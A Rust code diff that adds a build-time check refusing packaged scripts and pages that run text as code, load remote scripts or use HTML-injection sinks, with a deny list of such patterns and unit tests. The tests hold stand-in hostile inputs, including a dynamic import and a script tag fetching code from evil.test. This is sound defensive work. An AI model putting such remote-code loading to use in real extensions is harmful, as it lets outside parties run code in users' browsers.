@@ -14,6 +14,18 @@ use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};
 
 use crate::shell::program;
 
+/// What no script of the package holds: ways to run text, or what comes from elsewhere.
+const SCRIPTS: &[&str] = &[
+    "eval(",
+    "new Function",
+    "import(",
+    "importScripts",
+    "document.write",
+];
+
+/// What no script of our own holds beside: markup made of text.
+const OWN_SCRIPTS: &[&str] = &["innerHTML", "outerHTML", "insertAdjacentHTML"];
+
 /// Path in the package (with `/`) to bytes.
 #[derive(Default)]
 pub(crate) struct Package(BTreeMap<String, Vec<u8>>);
@@ -106,6 +118,29 @@ impl Package {
         }
     }
 
+    /// Fails where a script could run what is not in the package.
+    pub(crate) fn refuse_foreign_code(&self) -> anyhow::Result<()> {
+        let scripts = self.0.iter().filter(|(path, _)| path.ends_with(".js"));
+        for (path, bytes) in scripts {
+            let text = String::from_utf8_lossy(bytes);
+            // Yew has a function for markup as it is; a test of the panel's source holds it unused.
+            let is_own = !path.starts_with("wasm/");
+            let own = if is_own { OWN_SCRIPTS } else { &[] };
+            if let Some(word) = SCRIPTS.iter().chain(own).find(|word| text.contains(**word)) {
+                bail!("{path} holds {word:?}: no code from elsewhere, and none from text");
+            }
+        }
+        let pages = self.0.iter().filter(|(path, _)| path.ends_with(".html"));
+        for (path, bytes) in pages {
+            let text = String::from_utf8_lossy(bytes);
+            let is_foreign = |part: &str| !part.starts_with(r#" type="module" src="panel.js""#);
+            if text.contains("://") || text.split("<script").skip(1).any(is_foreign) {
+                bail!("{path} holds a script or an address that is not ours");
+            }
+        }
+        Ok(())
+    }
+
     /// Fails where the two differ, and says in which files.
     pub(crate) fn must_equal(&self, other: &Self) -> anyhow::Result<()> {
         let paths = self.0.keys().chain(other.0.keys());
@@ -157,4 +192,36 @@ pub(crate) fn copy_tracked(from: &Path, to: &Path) -> anyhow::Result<()> {
         fs::copy(from.join(path), target)?;
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn code_from_elsewhere_is_refused() {
+        let refused = |path: &str, text: &str| {
+            let mut package = Package::default();
+            package.add(path, text.as_bytes().to_vec());
+            package.refuse_foreign_code().is_err()
+        };
+        for (path, text) in [
+            ("background.js", "eval('1')"),
+            ("wasm/panel.js", "new Function('return 1')"),
+            ("panel.js", "await import('https://evil.test/a.js')"),
+            ("content.js", "host.innerHTML = text"),
+            (
+                "panel.html",
+                r#"<script src="https://evil.test/a.js"></script>"#,
+            ),
+            ("panel.html", "<script>alert(1)</script>"),
+        ] {
+            assert!(refused(path, text), "{path}: {text}");
+        }
+        assert!(!refused("wasm/panel.js", "arg0.innerHTML = text"));
+        assert!(!refused(
+            "tab.html",
+            r#"<script type="module" src="panel.js"></script>"#
+        ));
+    }
 }
